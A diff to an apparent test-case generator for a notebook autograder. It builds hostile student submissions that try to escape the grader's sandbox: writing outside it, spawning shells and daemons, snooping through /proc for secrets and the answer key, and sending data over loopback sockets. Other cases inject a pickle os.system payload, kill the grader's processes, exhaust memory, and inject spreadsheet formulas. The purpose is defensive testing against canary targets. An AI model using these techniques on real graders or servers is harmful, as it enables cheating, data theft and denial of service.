@@ -2,7 +2,15 @@
 
 Run from the repository root: `.venv/bin/python tests/grading_cases/make_cases.py`.
 Each file is a student edition of Lab 0 with something done to it; the expected
-outcome of each is asserted in tests/test_grading.py.
+outcome of each is asserted in tests/test_grading.py (and tests/test_isolation.py for the
+attacks on the sandbox).
+
+The attack cases follow the classes of issue 11: escaping the sandbox (files, processes,
+daemons, the network, the grader's process), reading what a submission must not (the
+environment, classmates, the answer key, the lab sources), exhausting the grader (memory,
+time), and losing earned points (odd answers, odd files). Each is written to do no harm
+if run outside the sandbox by mistake: it writes only the canary files named below and
+signals only processes inside its own PID namespace.
 """
 from __future__ import annotations
 
@@ -51,6 +59,280 @@ def solved() -> nbformat.NotebookNode:
     return with_cell(answered(SOLUTION), "import math")
 
 
+# Canaries, set up by the tests before a batch: none may change or leak.
+CANARY_FILE = "/tmp/underwatch-canary-file.txt"  # a file outside every submission folder
+CLASSMATE = "/tmp/underwatch-canary-classmate.ipynb"  # another student's submission, graded in the same batch
+CANARY_ENV = "UNDERWATCH_GRADER_CANARY"  # a variable of the grader's environment
+LISTEN_PORT = 47613  # a TCP listener on the grader's loopback
+LISTEN_UNIX = "/tmp/underwatch-canary.sock"  # a Unix socket listener on the grader's disk
+DAEMON_MARKER = "underwatch-daemon-marker"  # in the command line of what a submission leaves behind
+
+ESCAPE_FILES = f"""import ctypes, os, sqlite3
+target = {CANARY_FILE!r}
+attempts = []
+def attempt(name, action):
+    try:
+        action()
+        attempts.append(name)
+    except Exception as err:
+        attempts.append(f"{{name}} failed: {{type(err).__name__}}")
+libc = ctypes.CDLL(None)
+def by_ctypes():
+    fd = libc.open(target.encode(), 0o1 | 0o1000)  # O_WRONLY | O_TRUNC, no audit event
+    if fd < 0:
+        raise OSError("libc open failed")
+    libc.write(fd, b"escaped", 7)
+attempt("ctypes", by_ctypes)
+def by_dir_fd():
+    folder = os.open(os.path.dirname(target), os.O_RDONLY)
+    fd = os.open(os.path.basename(target), os.O_WRONLY | os.O_TRUNC, dir_fd=folder)
+    os.write(fd, b"escaped")
+attempt("dir_fd", by_dir_fd)
+attempt("sqlite", lambda: sqlite3.connect(target).execute("create table t (x)"))
+attempt("fifo", lambda: os.mkfifo("/tmp/underwatch-canary-fifo"))
+attempt("classmate", lambda: open({CLASSMATE!r}, "w").write("{{}}"))
+attempt("proc root", lambda: open("/proc/1/root" + target, "w").write("escaped"))
+"""
+
+ESCAPE_PROCESSES = f"""import ctypes, os, subprocess, _posixsubprocess
+command = "echo escaped > {CANARY_FILE}"
+for run in (lambda: ctypes.CDLL(None).system(command.encode()),
+            lambda: subprocess.run(["/bin/sh", "-c", command], timeout=5),
+            lambda: os.posix_spawn("/bin/sh", ["sh", "-c", command], {{}}),
+            lambda: _posixsubprocess.fork_exec(["/bin/sh", "-c", command], [b"/bin/sh"], True, (), None, None,
+                                               -1, -1, -1, -1, -1, -1, -1, -1, False, False, False, None, None,
+                                               None, -1, None, False)):
+    try:
+        run()
+    except Exception:
+        pass
+"""
+
+LEAVES_A_DAEMON = f"""import os, subprocess, sys
+# Left running after the notebook ends, if it could be: a new session, and a double fork.
+subprocess.Popen(["/bin/sh", "-c", "sleep 60 # {DAEMON_MARKER}"], start_new_session=True,
+                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+if os.fork() == 0:
+    os.setsid()
+    if os.fork() == 0:
+        os.execv("/bin/sh", ["sh", "-c", "sleep 60 # {DAEMON_MARKER}"])
+    os._exit(0)
+"""
+
+SNOOPS = f"""import os, glob
+found = []
+own = os.path.realpath(os.getcwd())
+for name, value in os.environ.items():
+    if {CANARY_ENV!r} in name:
+        found.append("environment " + name)
+for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+    for part in ("environ", "cmdline", "cwd"):
+        try:
+            path = f"/proc/{{pid}}/{{part}}"
+            text = os.readlink(path) if part == "cwd" else open(path, "rb").read().decode(errors="replace")
+            if {CANARY_ENV!r} in text or ".ipynb" in text or (part == "cwd" and text != own and pid != "self"):
+                found.append(path)
+        except OSError:
+            pass
+skip = ("/usr", "/proc", "/sys", "/dev", os.path.realpath(os.sys.base_prefix))
+for folder, subfolders, files in os.walk("/"):
+    if folder.startswith(skip) or "site-packages" in folder:  # the Python environment is there on purpose
+        subfolders[:] = []
+        continue
+    for name in files:
+        path = os.path.join(folder, name)
+        if name.endswith(".ipynb") and not path.startswith(own):
+            found.append(path)
+        if name in ("grades.csv", "00-getting-started.md") or "answers" in path.split(os.sep):
+            found.append(path)
+    if len(found) > 20:
+        break
+if found:
+    raise RuntimeError("FOUND: " + ", ".join(found[:5]))
+"""
+
+NETWORK = f"""import socket
+reached = []
+def attempt(name, action):
+    try:
+        action()
+        reached.append(name)
+    except OSError:
+        pass
+def tcp():
+    with socket.create_connection(("127.0.0.1", {LISTEN_PORT}), timeout=2) as s:
+        s.sendall(b"stolen answers")
+attempt("tcp", tcp)
+attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", {LISTEN_PORT})))
+def unix(address):
+    s = socket.socket(socket.AF_UNIX)
+    s.settimeout(2)
+    s.connect(address)
+    s.sendall(b"stolen answers")
+attempt("unix", lambda: unix({LISTEN_UNIX!r}))
+attempt("abstract", lambda: unix("\\0underwatch-canary"))
+attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
+if reached:
+    raise RuntimeError("REACHED: " + ", ".join(reached))
+"""
+
+PICKLES_THE_SERVER = """import os, pickle, stat, socket
+class Payload:
+    def __reduce__(self):
+        return (os.system, ("echo escaped > /tmp/underwatch-canary-file.txt",))
+data = pickle.dumps(Payload())
+for fd in range(0, 1024):
+    try:
+        if stat.S_ISSOCK(os.fstat(fd).st_mode):
+            os.write(fd, len(data).to_bytes(4, "big") + data)
+    except OSError:
+        pass
+for name in ("\\0multiprocessing-forkserver", "\\0pymp-forkserver"):
+    try:
+        s = socket.socket(socket.AF_UNIX)
+        s.connect(name)
+        s.sendall(data)
+    except OSError:
+        pass
+"""
+
+# Signals only what it can see: inside the sandbox, its own PID namespace, where it is PID 1.
+# Everything past its parent is sent only when it is PID 1, so that this notebook run by
+# mistake without a sandbox harms nothing but its own grader.
+KILLS_THE_GRADER = """import ctypes, os, signal
+libc = ctypes.CDLL(None)
+targets = [os.getppid(), 0]  # its parent (the grader's side), its process group
+if os.getpid() == 1:
+    targets += [int(p) for p in os.listdir("/proc") if p.isdigit()] if os.path.isdir("/proc") else []
+    targets.append(-1)  # every process it may signal
+for pid in targets:
+    if pid == os.getpid() or (pid == 0 and os.getpid() != 1):
+        continue
+    try:
+        fd = libc.syscall(434, pid, 0) if pid > 0 else -1  # pidfd_open
+        if fd >= 0:
+            libc.syscall(424, fd, signal.SIGKILL, None, 0)  # pidfd_send_signal
+        os.kill(pid, signal.SIGKILL)
+    except OSError:
+        pass
+"""
+
+HANGS_THE_BATCH = """import os, signal, time
+# Read the grader's pipes through /proc, then hang with the time-limit signal blocked.
+for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+    try:
+        for fd in os.listdir(f"/proc/{pid}/fd"):
+            open(f"/proc/{pid}/fd/{fd}", "rb").read(1)
+    except OSError:
+        pass
+signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
+while True:
+    time.sleep(1)
+"""
+
+MMAP_BOMB = """import mmap, os
+# Memory the old address-space-free cap did not see: shared mappings of a memfd.
+fd = os.memfd_create("hoard")
+os.ftruncate(fd, 8 << 30)
+hoard = mmap.mmap(fd, 8 << 30)
+for i in range(0, 8 << 30, 1 << 20):
+    hoard[i] = 1
+"""
+
+ANON_MMAP_BOMB = """import mmap
+hoard = mmap.mmap(-1, 8 << 30)
+for i in range(0, 8 << 30, 1 << 20):
+    hoard[i] = 1
+"""
+
+TMPFS_BOMB = """chunk = b"x" * (16 << 20)
+with open("/tmp/hoard", "wb") as f:
+    for _ in range(512):
+        f.write(chunk)
+"""
+
+MEMFD_WRITE_BOMB = """import os
+# Memory with no mapping at all: writes into memfds (counted by the cgroup only).
+chunk = b"x" * (64 << 20)
+hoards = []
+for _ in range(64):
+    fd = os.memfd_create("hoard")
+    hoards.append(fd)
+    for _ in range(12):
+        try:
+            os.write(fd, chunk)
+        except OSError:
+            break
+"""
+
+STEALS_EXPECTED = """from survlab import labs
+lab = labs.get("getting-started")
+camera_gb_per_day = lab.exercise("camera_gb_per_day").expected()
+"""
+STEALS_KEY = """import survlab.answers.getting_started as key
+comparisons_per_day = key.comparisons_per_day()
+"""
+STEALS_SOURCES = """import glob, json, os, re
+# The lab's source and the instructor edition, wherever the repository might be.
+for pattern in ("/work/main/notebooks/00-getting-started.md", "../../notebooks/00-getting-started.md",
+                "/work/main/_build/editions/instructor/00-getting-started.ipynb", "/*/*/notebooks/00-*",
+                "/home/**/00-getting-started*", "/tmp/**/00-getting-started*", "/root/*/notebooks/00-*"):
+    for path in glob.glob(pattern, recursive=True):
+        text = open(path).read()
+        orders_apart = int(re.search(r"orders_apart = (.*)", text).group(1))
+orders_apart
+"""
+
+
+ODD_ANSWERS = {
+    "people_per_camera": "city.population / city.cameras",
+    "camera_gb_per_day": "10**400",
+    "comparisons_per_day": "type('Evil', (float,), {'__float__': lambda self: 1 / 0})(3.0)",
+    "orders_apart": "functools.reduce(lambda inner, _: [inner], range(3000), 3)",
+}
+
+
+def thief(cell: str) -> nbformat.NotebookNode:
+    """A student edition with one honest answer and a cell that takes another from the key."""
+    nb = answered({"people_per_camera": SOLUTION["people_per_camera"]})
+    return with_cell(nb, cell, 2)
+
+
+def attack_cases() -> dict[str, nbformat.NotebookNode]:
+    """The attacks on the sandbox and the answer key (outcomes in tests/test_isolation.py)."""
+    odd = with_cell(answered(ODD_ANSWERS), "import functools")
+    v3 = nbformat.convert(solved(), 3)
+    odd_metadata = solved()
+    odd_metadata.metadata["survlab"] = "getting-started"
+    odd_types = solved()
+    odd_types.metadata["survlab"] = {"lab": 5, "version": ["0.2"]}
+    old_version = solved()
+    old_version.metadata["survlab"]["version"] = "=0.0.1+HYPERLINK(1)"
+    formula = with_cell(solved(), "raise ValueError('=HYPERLINK(\"http://example.org\",\"open me\")')", 2)
+    return {
+        "escapes_by_files": with_cell(solved(), ESCAPE_FILES, 2),
+        "escapes_by_processes": with_cell(solved(), ESCAPE_PROCESSES, 2),
+        "leaves_a_daemon": with_cell(solved(), LEAVES_A_DAEMON, 2),
+        "snoops": with_cell(solved(), SNOOPS, 2),
+        "uses_the_network": with_cell(solved(), NETWORK, 2),
+        "pickles_the_server": with_cell(solved(), PICKLES_THE_SERVER, 2),
+        "kills_the_grader": with_cell(solved(), KILLS_THE_GRADER, 2),
+        "hangs_the_batch": with_cell(solved(), HANGS_THE_BATCH, 2),
+        "maps_memory": with_cell(with_cell(with_cell(solved(), MMAP_BOMB, 2), ANON_MMAP_BOMB, 2), TMPFS_BOMB, 2),
+        "writes_memory": with_cell(solved(), MEMFD_WRITE_BOMB, 2),
+        "steals_expected": thief(STEALS_EXPECTED),
+        "steals_the_key": thief(STEALS_KEY),
+        "steals_the_sources": thief(STEALS_SOURCES),
+        "odd_answers": odd,
+        "format_3": v3,
+        "metadata_not_a_mapping": odd_metadata,
+        "metadata_wrong_types": odd_types,
+        "other_version": old_version,
+        "formula_in_an_error": formula,
+        "x" * 239: solved(),  # a 245-character file name
+    }
+
+
 def main() -> None:
     cases = {
         "correct": solved(),
@@ -85,8 +367,13 @@ def main() -> None:
     other = solved()
     other.metadata["survlab"]["lab"] = "camera-network"
     cases["other_lab"] = other
+    cases.update(attack_cases())
     for name, nb in cases.items():
-        nbformat.write(nb, HERE / f"{name}.ipynb")
+        if nb.get("nbformat") == 3:  # nbformat.write would upgrade it again
+            (HERE / f"{name}.ipynb").write_text(nbformat.writes(nb, version=3))
+        else:
+            nbformat.write(nb, HERE / f"{name}.ipynb")
+    (HERE / "nested_too_deep.ipynb").write_text("[" * 50_000 + "]" * 50_000)
     (HERE / "not_json.ipynb").write_text("{ this is not JSON, it is what a broken download looks like\n")
     (HERE / "not_a_notebook.ipynb").write_text(json.dumps({"name": "my answers", "answers": [1, 2, 3]}))
 
